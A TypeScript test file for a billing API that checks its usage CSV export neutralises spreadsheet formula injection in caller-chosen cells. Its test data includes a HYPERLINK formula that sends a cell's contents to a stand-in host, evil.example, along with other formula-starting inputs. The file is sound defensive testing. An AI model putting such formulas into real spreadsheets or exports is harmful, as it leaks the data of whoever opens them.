import test from 'ava';
import { commitHold, grantCredits, holdCredits } from '../src/features/billing/credit-ledger.ts';
import { createKey, signInAgent } from '@svc/testing/identity';
import { startTestServer, type TestServer } from '@svc/testing/test-server';

/**
 * The usage CSV opens in spreadsheets, and some of its cells are chosen by the caller (the
 * Idempotency-Key, the request id): a cell that a spreadsheet would run as a formula is
 * neutralised the OWASP way (a leading `'`, and the cell quoted); numbers stay numbers.
 */
let svc: TestServer;
test.before(async () => {
  svc = await startTestServer();
});
test.after.always(async () => {
  await svc?.close();
});

const sequelize = () => svc.server.database.sequelize;

async function customer(credits: number) {
  const agent = await signInAgent(svc);
  const key = await createKey(agent.client, ['billing:read', 'billing:write', 'inference:invoke']);
  await sequelize().transaction((transaction) => grantCredits(sequelize(), transaction, agent.id, credits, `test-grant-${agent.id}`));
  return { id: agent.id, token: key.secret };
}

async function creditChat(token: string, idempotencyKey: string, requestId?: string) {
  const response = await fetch(`${svc.baseUrl}/v1/credits/chat/completions`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${token}`,
      'content-type': 'application/json',
      'idempotency-key': idempotencyKey,
      ...(requestId ? { 'x-request-id': requestId } : {}),
    },
    body: JSON.stringify({ messages: [{ role: 'user', content: 'What is svc?' }] }),
  });
  await response.arrayBuffer();
  return response.status;
}

const csvOf = async (token: string) =>
  (await fetch(`${svc.baseUrl}/v1/billing/usage?format=csv&limit=100`, { headers: { authorization: `Bearer ${token}` } })).text();

/** The record whose cells hold `needle`, with its numeric tail (credits first, then the three token counts). */
function recordHolding(csv: string, needle: string): string {
  const records = csv.split('\r\n').filter((line) => line.includes(needle));
  if (records.length !== 1) throw new Error(`expected one record holding ${JSON.stringify(needle)}, found ${records.length} in:\n${csv}`);
  return records[0]!;
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

test('Idempotency-Keys and request ids that start a formula are prefixed with a quote and quoted; plain ones and numbers are untouched', async (t) => {
  const { token } = await customer(10);
  for (const key of [HYPERLINK, '+1', '-1', '@x', 'plain-key']) t.is(await creditChat(token, key), 200, key);
  t.is(await creditChat(token, 'by-request-id', '-req.1'), 200);
  const csv = await csvOf(token);

  t.true(recordHolding(csv, 'HYPERLINK').includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",`));
  t.true(recordHolding(csv, "'+1").includes(`,"'+1",`));
  t.true(recordHolding(csv, "'-1").includes(`,"'-1",`));
  t.true(recordHolding(csv, "'@x").includes(`,"'@x",`));
  t.true(recordHolding(csv, 'by-request-id').includes(`,"'-req.1",by-request-id,`), 'the caller-chosen request id too');
  t.true(recordHolding(csv, 'plain-key').includes(',plain-key,'), 'a harmless key is written as it is');
  // Numbers are never prefixed nor quoted: credits is the third column, the token counts the three before the key's id.
  for (const record of csv.trim().split('\r\n').slice(1)) t.regex(record, /^rcpt_[^,]+,[^,]+,1,.*,\d+,\d*,\d+,(dk_[0-9A-Za-z]{22})?$/);
});

test('a stored key starting with a tab or a carriage return is neutralised too', async (t) => {
  // The Idempotency-Key header refuses control characters, so these reach the table only as data
  // written by another path; the export must not trust the edge to have kept them out.
  const { id, token } = await customer(2);
  for (const key of ['\tx', '\rx']) {
    const hold = await holdCredits(sequelize(), { principalId: id, idempotencyKey: key, fingerprint: 'f', credits: 1, ttlSeconds: 60 });
    if (hold.kind !== 'held') throw new Error(`no hold: ${hold.kind}`);
    t.is(
      await commitHold(
        sequelize(),
        hold.holdId,
        {},
        { operation: 'chat.completions', model: 'm', requestId: 'r', usage: { prompt_tokens: 1, total_tokens: 1 } },
      ),
      'committed',
    );
  }
  const csv = await csvOf(token);
  t.true(csv.includes(`,"'\tx",`));
  t.true(csv.includes(`,"'\rx",`));
});
